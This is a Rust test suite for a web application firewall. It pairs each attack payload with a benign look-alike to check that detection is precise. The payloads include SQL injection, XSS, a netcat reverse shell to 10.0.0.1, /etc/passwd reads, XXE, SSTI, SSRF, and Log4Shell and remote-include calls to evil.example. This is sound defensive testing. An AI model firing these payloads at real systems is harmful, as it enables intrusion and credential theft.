//! For every attack class, an attack asserted blocked next to a benign twin that looks
//! alike (same placement, same characters, same words) asserted allowed. These pin the
//! precision of each detector, not just its recall.

mod common;

use common::{build, firewall};

fn blocked(placement: &str, payload: &str, field: &str) -> bool {
    static FW: std::sync::OnceLock<portcullis_firewall::Firewall> = std::sync::OnceLock::new();
    let fw = FW.get_or_init(firewall);
    let (parts, body) = build(placement, payload, Some(field));
    let v = fw.inspect(&parts, &body);
    v.blocked
}

fn twin(placement: &str, field: &str, attack: &str, benign: &str) {
    assert!(
        blocked(placement, attack, field),
        "attack allowed: {attack:?}"
    );
    assert!(
        !blocked(placement, benign, field),
        "benign blocked: {benign:?}"
    );
}

#[test]
fn sqli() {
    twin("query", "name", "' OR '1'='1' --", "O'Brien");
    twin(
        "json",
        "note",
        "1 UNION SELECT password FROM users",
        "select the union rep from the list",
    );
    twin(
        "form",
        "q",
        "x'; DROP TABLE users; --",
        "Drop the table by the door; thanks!",
    );
}

#[test]
fn xss() {
    twin(
        "json",
        "comment",
        "<img src=x onerror=alert(1)>",
        "<img src=\"/a.png\" alt=\"cat\">",
    );
    twin(
        "query",
        "q",
        "<svg/onload=alert(1)>",
        "svg onload event docs",
    );
    twin(
        "form",
        "link",
        "javascript:alert(document.cookie)",
        "javascript: the good parts",
    );
}

#[test]
fn cmdi() {
    twin("query", "host", "8.8.8.8; cat /etc/passwd", "8.8.8.8");
    twin("json", "comment", "$(whoami)", "Tom & Jerry; cats | dogs");
    twin(
        "form",
        "file",
        "a.txt | nc -e /bin/sh 10.0.0.1 4444",
        "a.txt | b.txt",
    );
}

#[test]
fn traversal() {
    twin(
        "query",
        "file",
        "../../../../etc/passwd",
        "reports/2024/q1.pdf",
    );
    twin("path", "x", "..%2f..%2f..%2fetc%2fshadow", "2024-q1-report");
    twin(
        "json",
        "path",
        "..\\..\\windows\\win.ini",
        "C:\\Users\\Public\\report.docx",
    );
}

#[test]
fn ldap() {
    twin("query", "user", "*)(uid=*))(|(uid=*", "jdoe");
    twin("form", "user", "admin)(|(password=*))", "admin (primary)");
}

#[test]
fn nosql() {
    twin("query_raw", "x", "password[$ne]=x", "password[new]=x");
    twin(
        "json_raw",
        "x",
        r#"{"user":"a","password":{"$ne":null}}"#,
        r#"{"user":"a","password":"$ne is not my password"}"#,
    );
    twin(
        "json_raw",
        "x",
        r#"{"$where":"sleep(100)"}"#,
        r#"{"$schema":"https://json-schema.org/draft/2020-12/schema"}"#,
    );
}

#[test]
fn xml() {
    twin(
        "xml_raw",
        "x",
        r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#,
        r#"<?xml version="1.0"?><a><b>Fish &amp; chips</b></a>"#,
    );
    twin(
        "json",
        "bio",
        "</name><admin>true</admin><name>",
        "I love <b>bold</b> text",
    );
}

#[test]
fn ssti() {
    twin("json", "greeting", "{{7*7}}", "Hello {{name}}!");
    twin(
        "query",
        "t",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "Dear ${firstName}",
    );
    twin(
        "form",
        "t",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{ order.total }}",
    );
}

#[test]
fn ssrf() {
    twin(
        "json",
        "webhook",
        "http://169.254.169.254/latest/meta-data/",
        "https://hooks.example.com/x",
    );
    twin(
        "query",
        "url",
        "http://2130706433/admin",
        "https://203.0.113.10/status",
    );
    twin(
        "form",
        "callback",
        "http://[::ffff:127.0.0.1]/",
        "https://[2001:db8::1]/",
    );
}

#[test]
fn crlf() {
    twin(
        "query_pre",
        "lang",
        "en%0d%0aSet-Cookie:%20admin=1",
        "en%20US",
    );
    twin(
        "json",
        "note",
        "a\r\nLocation: http://evil.example",
        "line one\r\nline two",
    );
}

#[test]
fn log4shell() {
    twin(
        "header",
        "x",
        "${jndi:ldap://evil.example/a}",
        "${HOME}/bin",
    );
    twin(
        "json",
        "ua",
        "${${lower:j}ndi:ldap://x.example/}",
        "price: ${amount}",
    );
}

#[test]
fn rfi() {
    twin(
        "query",
        "page",
        "http://evil.example/shell.txt?",
        "https://example.com/about",
    );
    twin(
        "form",
        "inc",
        "http://198.51.100.7/x.php",
        "https://example.com/index.php",
    );
}

#[test]
fn php_and_java() {
    twin(
        "json",
        "c",
        "<?php system($_GET['c']); ?>",
        "<p>php is fun</p>",
    );
    twin(
        "json",
        "c",
        "java.lang.Runtime.getRuntime().exec(\"id\")",
        "I drink java at runtime",
    );
}

#[test]
fn path_probes_and_command_names() {
    twin("path_pre", "x", "..%2f.env", "v2");
    let fw = firewall();
    let probe = http::Request::builder()
        .uri("/.git/config")
        .body(())
        .unwrap()
        .into_parts()
        .0;
    let wk = http::Request::builder()
        .uri("/.well-known/openid-configuration")
        .body(())
        .unwrap()
        .into_parts()
        .0;
    assert!(fw.inspect(&probe, b"").blocked);
    assert!(!fw.inspect(&wk, b"").blocked);
    twin(
        "json",
        "note",
        "x; nohup ansible all -m ping",
        "ansible all -m ping (from the docs)",
    );
}
